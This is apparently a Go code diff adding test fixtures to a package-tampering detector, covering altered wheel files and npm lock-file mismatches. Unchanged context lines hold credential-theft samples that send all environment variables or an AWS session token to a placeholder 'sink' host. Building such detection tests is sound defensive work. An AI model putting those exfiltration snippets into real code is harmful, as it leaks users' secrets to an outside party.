@@ -26,6 +26,10 @@ func behaving() []Sample {
 		one("T15/python/changed", py, ids("record-mismatch"), wheel("acmelib", "1.0", map[string]string{"acmelib/__init__.py": "x = 1\n"}, map[string]string{"acmelib/__init__.py": "x = 1\nimport os\n"})...),
 		one("T15/python/added", py, ids("unlisted-code"), wheel("acmelib", "1.0", map[string]string{"acmelib/__init__.py": "x = 1\n"}, map[string]string{"acmelib/_hook.py": "import os\n"})...),
 		one("T15/python/no-metadata", py, ids("shadowed-package", "missing-metadata"), File{site + "requests/__init__.py", "import os\n", 0}, File{site + "requests/api.py", "x = 1\n", 0}),
+		one("T15/python/native", py, ids("record-mismatch"), wheel("acmelib", "1.0", map[string]string{"acmelib/__init__.py": "x = 1\n", "acmelib/_fast.so": elf(62, "honest\x00")}, map[string]string{"acmelib/_fast.so": elf(62, "connect\x00")})...),
+		one("T15/python/json", py, ids("record-mismatch"), wheel("acmelib", "1.0", map[string]string{"acmelib/__init__.py": "x = 1\n", "acmelib/endpoints.json": `{"host":"acme.example"}`}, map[string]string{"acmelib/endpoints.json": `{"host":"` + sink + `"}`})...),
+		one("T15/node/version", node, ids("npm-integrity"), locked(map[string]string{"left": "1.0.0"}, map[string]string{"left": "1.0.1"})...),
+		one("T15/node/added", node, ids("npm-integrity"), locked(map[string]string{"left": "1.0.0"}, map[string]string{"left": "1.0.0", "right": "1.0.0"})...),
 		// T17: theft of credentials.
 		one("T17/python/environ", py, ids("credential-theft"), pkg("import os, json, urllib.request\ndata = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(urllib.request.Request('https://"+sink+"/c', data=data))\n")),
 		one("T17/python/token", py, ids("credential-theft"), pkg("import os, http.client\ndef beat():\n    c = http.client.HTTPSConnection('"+sink+"')\n    c.request('POST', '/', os.environ['AWS_SESSION_TOKEN'])\nbeat()\n")),
@@ -84,6 +88,23 @@ func wheel(name, version string, shipped, changed map[string]string) []File {
 		files = append(files, File{site + p, body, 0})
 	}
 	return append(files, File{site + info + "METADATA", meta, 0}, File{site + info + "RECORD", record.String(), 0})
+}
+
+// locked are installed npm packages and the hidden lock file that npm wrote of
+// others: both are versions by name.
+func locked(listed, installed map[string]string) []File {
+	const root = "nodejs/node_modules/"
+	var entries []string
+	for _, name := range slices.Sorted(maps.Keys(listed)) {
+		entries = append(entries, fmt.Sprintf(`"node_modules/%s":{"version":"%s","integrity":"sha512-%s"}`, name, listed[name], base64.StdEncoding.EncodeToString([]byte(name))))
+	}
+	files := []File{{root + ".package-lock.json", `{"lockfileVersion":3,"packages":{` + strings.Join(entries, ",") + `}}`, 0}}
+	for _, name := range slices.Sorted(maps.Keys(installed)) {
+		files = append(files,
+			File{root + name + "/package.json", fmt.Sprintf(`{"name":"%s","version":"%s","main":"index.js","license":"MIT"}`, name, installed[name]), 0},
+			File{root + name + "/index.js", "'use strict';\nmodule.exports = s => String(s).trimStart();\n", 0})
+	}
+	return files
 }
 
 // line is a line of RECORD.
